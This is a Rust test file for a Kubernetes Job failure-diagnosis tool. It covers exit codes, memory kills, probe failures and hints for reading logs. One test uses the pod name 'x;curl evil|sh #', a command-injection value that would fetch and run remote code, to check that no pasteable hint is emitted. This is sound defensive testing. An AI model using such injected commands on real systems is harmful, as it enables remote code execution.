//! How containers fail, and pods are ended from outside.

use serde_json::json;

use super::world::{World, failed};

#[test]
fn exit_codes_mean_what_shells_and_kernels_mean_by_them() {
    let cases = [
        (1, "Error", "container-failed", "exited 1"),
        (255, "Error", "container-failed", "exited 255"),
        (126, "Error", "command-not-run", "found but not executable"),
        (127, "Error", "command-not-run", "command not found"),
        (134, "Error", "crashed", "SIGABRT"),
        (139, "Error", "crashed", "SIGSEGV"),
        (137, "Error", "killed", "possibly out of memory"),
        (137, "OOMKilled", "oom-killed", "killed for memory"),
        (1, "OOMKilled", "oom-killed", "killed for memory"),
        (143, "Error", "container-failed", "exited 143 (SIGTERM)"),
        (128, "StartError", "start-error", "(run)"),
        (128, "ContainerCannotRun", "start-error", "could not be started"),
    ];
    for (code, reason, rule, word) in cases {
        let report = World::new()
            .failed_pod("x-1", code, reason)
            .with("/status/failed", 1.into())
            .report();
        report.assert_finds(rule, &[word, "x-1"]);
        assert_eq!(report.state(), "Retrying", "one failure of seven ends nothing");
        let failures = [
            "container-failed",
            "command-not-run",
            "crashed",
            "killed",
            "oom-killed",
            "asked-to-stop",
            "start-error",
        ];
        for other in failures.iter().filter(|other| **other != rule) {
            report.assert_silent(other);
        }
    }
}

#[test]
fn a_kill_after_a_deletion_is_a_consequence() {
    let mut patch = failed(137, "Error");
    patch["metadata"] =
        json!({"deletionTimestamp": "2026-11-24T11:09:59Z", "deletionGracePeriodSeconds": 30});
    let report = World::new().pod("x-1", &patch).report();
    report.assert_finds("killed-after-stop", &["terminationGracePeriodSeconds"]);
    report.assert_silent("killed");
    patch["status"]["containerStatuses"][0]["state"]["terminated"]["exitCode"] = 143.into();
    let asked = World::new().pod("x-1", &patch).report();
    asked.assert_finds(
        "asked-to-stop",
        &[
            "exited 143 (SIGTERM) in pod x-1 after its pod was deleted",
            "audit log",
        ],
    );
    let by_controller = World::new().pod("x-1", &patch).event(
        "Job",
        "x",
        "2026-11-24T11:09:29Z",
        "SuccessfulDelete",
        "Deleted pod: x-1",
    );
    let by_controller = by_controller.report();
    by_controller.assert_finds(
        "asked-to-stop",
        &["after its pod was deleted by the Job controller"],
    );
    let ended_by_itself = World::new().failed_pod("x-1", 143, "Error").report();
    assert!(
        !ended_by_itself.message().contains("deleted"),
        "{}",
        ended_by_itself.message()
    );
}

#[test]
fn an_end_that_nobody_saw_is_no_kill() {
    let report = World::new()
        .failed_pod("x-1", 137, "ContainerStatusUnknown")
        .report();
    report.assert_finds("container-lost", &["ended unseen", "exit code is unknown"]);
    report.assert_silent("killed");
}

#[test]
fn a_container_that_the_kubelet_restarts_with_its_pod_failed_nothing() {
    let with = |reason: &str| {
        let end = json!({"exitCode": 137, "reason": reason});
        let patch = json!({"status": {"phase": "Running", "containerStatuses": [{"name": "main", "restartCount": 1, "state": {"terminated": end}}]}});
        let restarted = World::new().with("/spec/template/spec/restartPolicy", "OnFailure".into());
        restarted.pod("x-1", &patch).report()
    };
    assert_eq!(with("RestartingAllContainers").0["findings"], json!([]));
    with("Error").assert_finds("crash-loop", &["main"]);
}

#[test]
fn the_memory_limit_is_named_or_its_absence() {
    let limited =
        json!({"spec": {"containers": [{"name": "main", "resources": {"limits": {"memory": "64Mi"}}}]}});
    let mut patch = failed(137, "OOMKilled");
    patch["spec"] = limited["spec"].clone();
    World::new()
        .pod("x-1", &patch)
        .report()
        .assert_finds("oom-killed", &["limit 64Mi", "above 64Mi"]);
    World::new()
        .failed_pod("x-1", 137, "OOMKilled")
        .report()
        .assert_finds(
            "oom-killed",
            &["no limit of its own", "the node ran out of memory"],
        );
    let of_pod = World::new()
        .failed_pod("x-1", 137, "OOMKilled")
        .with(
            "/spec/template/spec/resources",
            json!({"limits": {"memory": "96Mi"}}),
        )
        .report();
    of_pod.assert_finds("oom-killed", &["limit 96Mi of the pod", "above 96Mi"]);
}

#[test]
fn every_container_that_failed_by_itself_is_told_of() {
    let pod = |second: (i32, &str)| {
        let end = |code: i32, reason: &str, at: &str| json!({"terminated": {"exitCode": code, "reason": reason, "finishedAt": at}});
        let patch = json!({"spec": {"containers": [{"name": "main"}, {"name": "log"}]}, "status": {"phase": "Failed", "containerStatuses": [
            {"name": "log", "state": end(1, "Error", "2026-11-24T11:10:00Z")},
            {"name": "main", "state": end(second.0, second.1, "2026-11-24T11:20:00Z")}]}});
        World::new()
            .pod("x-1", &patch)
            .condition("Failed", "BackoffLimitExceeded", "m")
            .with("/status/failed", 1.into())
            .report()
    };
    let report = pod((137, "OOMKilled"));
    report.assert_finds("oom-killed", &["\"main\""]);
    report.assert_finds("container-failed", &["\"log\" exited 1"]);
    assert!(
        report
            .message()
            .starts_with("1 attempt; \"main\" was killed for memory"),
        "{}",
        report.message()
    );
    assert_eq!(report.0["pods"][0]["reason"], "OOMKilled");
    let earliest = pod((2, "Error"));
    assert!(
        earliest.message().starts_with("1 attempt; \"log\" exited 1"),
        "{}",
        earliest.message()
    );
}

#[test]
fn a_failure_is_told_in_its_own_words_only() {
    let ended = |code: i32, minute: i32| {
        let mut patch = failed(code, "Error");
        patch["status"]["containerStatuses"][0]["state"]["terminated"]["finishedAt"] =
            format!("2026-11-24T11:{minute}:00Z").into();
        patch
    };
    let report = World::new()
        .pod("x-1", &ended(1, 11))
        .pod("x-2", &ended(2, 12))
        .pod("x-3", &ended(3, 13))
        .pod("x-4", &ended(4, 14))
        .log("x-1", "main", "words of 1")
        .log("x-2", "main", "words of 2")
        .log("x-3", "main", "words of 3")
        .log("x-4", "main", "words of 4")
        .report();
    let findings = report.0["findings"].as_array().unwrap();
    let of = |code: &str| {
        let mut texts = findings
            .iter()
            .map(|finding| format!("{} {}", finding["message"], finding["hint"]));
        texts
            .find(|text| text.contains(&format!("exited {code}")))
            .unwrap()
    };
    assert!(of("4").contains("words of 4"), "{}", of("4"));
    assert!(
        !of("1").contains("words of"),
        "only three logs are read: {}",
        of("1")
    );
    assert!(of("1").contains("kubectl logs x-1 -c main -n zoo"), "{}", of("1"));
}

#[test]
fn nobody_is_sent_to_read_an_empty_log() {
    let hint = |log: Option<&str>, message: &str| {
        let mut patch = failed(3, "Error");
        patch["status"]["containerStatuses"][0]["state"]["terminated"]["message"] = message.into();
        let world = World::new().pod("x-1", &patch);
        let world = match log {
            Some(text) => world.log("x-1", "main", text),
            None => world,
        };
        let hint = world.report().finding("container-failed").unwrap()["hint"].clone();
        hint.as_str().unwrap_or_default().to_owned()
    };
    assert!(hint(Some(""), "").starts_with("it wrote nothing to its log"));
    assert!(hint(None, "").starts_with("read its log: kubectl logs x-1"));
    assert_eq!(hint(Some("no route to db"), ""), "");
    assert_eq!(hint(Some(""), "its own words"), "");
}

#[test]
fn no_hint_is_a_trap_to_paste() {
    let report = World::new().failed_pod("x;curl evil|sh #", 1, "Error").report();
    assert_eq!(report.finding("container-failed").unwrap().get("hint"), None);
    World::new()
        .failed_pod("x-1.y", 1, "Error")
        .report()
        .assert_finds("container-failed", &["kubectl logs x-1.y -c main -n zoo"]);
}

#[test]
fn equal_failures_are_one_finding_and_different_ones_several() {
    let world = World::new()
        .failed_pod("x-1", 3, "Error")
        .failed_pod("x-2", 3, "Error")
        .failed_pod("x-3", 4, "Error");
    let report = world.with("/status/failed", 3.into()).report();
    let findings: Vec<_> = report.0["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|finding| finding["rule"] == "container-failed")
        .collect();
    assert_eq!(findings.len(), 2);
    assert_eq!(findings[0]["subject"]["count"], 2, "the most frequent first");
    assert!(
        findings[0]["message"]
            .as_str()
            .unwrap()
            .contains("in 2 pods, e.g. x-")
    );
}

#[test]
fn an_init_container_is_to_blame_for_what_never_started() {
    let patch = json!({
        "spec": {"initContainers": [{"name": "fetch", "image": "i"}]},
        "status": {"phase": "Failed", "initContainerStatuses": [{"name": "fetch", "state": {"terminated": {"exitCode": 5, "reason": "Error", "message": "cannot resolve bucket", "finishedAt": "2026-11-24T11:10:00Z"}}}],
            "containerStatuses": [{"name": "main", "state": {"waiting": {"reason": "PodInitializing"}}}]},
    });
    let report = World::new().pod("x-1", &patch).report();
    report.assert_finds(
        "container-failed",
        &[
            "init container \"fetch\" exited 5",
            ": \"cannot resolve bucket\"; \"main\" never started",
        ],
    );
}

#[test]
fn a_sidecar_that_is_stopped_with_its_pod_failed_nothing() {
    let patch = json!({
        "spec": {"initContainers": [{"name": "proxy", "image": "i", "restartPolicy": "Always"}]},
        "status": {"phase": "Succeeded", "initContainerStatuses": [{"name": "proxy", "state": {"terminated": {"exitCode": 143, "reason": "Error"}}}],
            "containerStatuses": [{"name": "main", "state": {"terminated": {"exitCode": 0, "reason": "Completed"}}}]},
    });
    let report = World::new()
        .pod("x-1", &patch)
        .condition("Complete", "CompletionsReached", "")
        .with("/status/succeeded", 1.into())
        .report();
    assert_eq!(report.state(), "Complete");
    assert_eq!(report.0["findings"], json!([]));
}

/// A pod whose container "main" ended with this code at 11:10, and an event about one of its containers.
fn probed(code: i32, container: &str, time: &str, reason: &str, message: &str) -> World {
    let path = format!("spec.containers{{{container}}}");
    World::new()
        .failed_pod("x-1", code, "Error")
        .event_at(&path, "Pod", "x-1", time, reason, message)
}

const BEFORE_ITS_END: &str = "2026-11-24T11:09:50Z";
const LIVENESS: &str = "Liveness probe failed: HTTP probe failed with statuscode: 500";

#[test]
fn a_failed_probe_is_the_cause_of_the_kill_that_follows() {
    let startup = "Startup probe failed: command timed out";
    for (code, kind, reason, message, words) in [
        (137, "liveness", "Unhealthy", LIVENESS, "statuscode: 500"),
        (143, "liveness", "Unhealthy", LIVENESS, "statuscode: 500"),
        (143, "startup", "Unhealthy", startup, "command timed out"),
        (
            137,
            "liveness",
            "Killing",
            "Container main failed liveness probe, will be restarted",
            "",
        ),
        (
            143,
            "startup",
            "Killing",
            "Container main failed startup probe",
            "",
        ),
    ] {
        let report = probed(code, "main", BEFORE_ITS_END, reason, message)
            .log("x-1", "main", "what it did last")
            .condition("Failed", "BackoffLimitExceeded", "m")
            .with("/status/failed", 1.into())
            .report();
        let cause = format!("was killed because its {kind} probe failed (exit {code})");
        let verdict = report.message();
        assert!(verdict.contains(&cause) && verdict.contains(words), "{verdict}");
        let fix = format!("{kind}Probe of \"main\"");
        report.assert_finds("probe-failed", &[&cause, words, &fix]);
        report.assert_silent("killed");
    }
}

#[test]
fn a_probe_that_did_not_kill_the_container_is_not_blamed() {
    let readiness = "Readiness probe failed: HTTP probe failed with statuscode: 500";
    let after_its_end = "2026-11-24T11:10:50Z";
    for (container, time, message) in [
        ("main", BEFORE_ITS_END, readiness),
        ("main", after_its_end, LIVENESS),
        ("other", BEFORE_ITS_END, LIVENESS),
    ] {
        let report = probed(137, container, time, "Unhealthy", message).report();
        report.assert_finds("killed", &["possibly out of memory"]);
        report.assert_silent("probe-failed");
    }
    let own_end = probed(1, "main", BEFORE_ITS_END, "Unhealthy", LIVENESS).report();
    own_end.assert_finds("container-failed", &["exited 1"]);
    own_end.assert_silent("probe-failed");
}

#[test]
fn what_a_script_calls_is_to_blame_for_what_it_did_not_find() {
    let report = |code: i32, reason: &str, message: &str| {
        let mut patch = failed(code, reason);
        patch["status"]["containerStatuses"][0]["state"]["terminated"]["message"] = message.into();
        let container = json!({"name": "main", "command": ["sh", "-c", "foo"], "workingDir": "/app"});
        let world = World::new().with("/spec/template/spec/containers/0", container);
        world.pod("x-1", &patch).report()
    };
    for code in [126, 127] {
        let report = report(code, "Error", "sh: foo: not found");
        report.assert_finds("command-not-run", &["itself started (sh): check what that calls"]);
    }
    let missing = "runc create failed: exec: \"sh\": executable file not found in $PATH";
    report(128, "StartError", missing).assert_finds("start-error", &["check the command of \"main\" (sh)"]);
    for message in [
        "runc create failed: chdir to cwd (\"/app\") set in config.json failed: permission denied",
        "runc create failed: mkdir /app: not a directory",
    ] {
        report(128, "StartError", message).assert_finds("start-error", &["workingDir of \"main\" (/app)"]);
    }
}
